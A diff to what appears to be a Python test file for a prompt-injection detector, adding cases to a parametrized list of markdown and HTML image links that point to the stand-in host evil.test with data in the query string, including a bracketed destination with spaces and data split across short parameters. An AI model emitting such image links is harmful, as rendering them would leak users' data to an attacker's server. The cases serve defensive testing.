@@ -373,6 +373,8 @@ DATA = "d=" + "A" * 30
         f'see ![logo]\n\n   [logo]: <https://evil.test/p.png?{DATA}> "title"',  # shortcut
         f'<Img src="https://evil.test/p.png?{DATA}">',  # HTML tags are case-insensitive
         f"![x](//evil.test/p.png?{DATA})",  # protocol-relative: fetched over the page's scheme
+        f"![x](<https://evil.test/a b.png?{DATA}>)",  # a bracketed destination may hold spaces
+        "![x](https://evil.test/p.png?a=AAAAAAAAAA&b=BBBBBBBBBB&c=CCCCCCCCCC)",  # data split over short values
     ],
 )
 async def test_injection_reads_every_form_of_markdown_and_html_image(text: str) -> None:
